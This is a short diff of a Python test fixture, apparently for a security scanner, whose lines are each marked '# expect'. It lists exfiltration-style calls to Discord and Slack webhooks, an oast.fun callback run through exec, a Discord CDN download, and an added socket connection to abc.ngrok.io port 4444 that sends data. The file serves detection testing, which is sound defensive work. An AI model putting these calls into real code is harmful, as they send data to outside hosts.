@@ -20,3 +20,7 @@ urllib.request.urlopen("https://discord.com/api/webhooks/1000000000000000/abcdef
 exec("import requests\nrequests.get('https://abc.oast.fun/inside')")  # expect
 urllib.request.urlopen("https://hooks.slack.com/services/T00000000/B00000000/aaaaaaaaaaaaaaaaaaaaaaaa", data=b"new")  # expect
 requests.get("https://cdn.discordapp.com/attachments/1000000000000000/1000000000000000/list.txt")  # expect
+
+s = socket.socket()
+s.connect(("abc.ngrok.io", 4444))  # expect
+s.send(b"new")
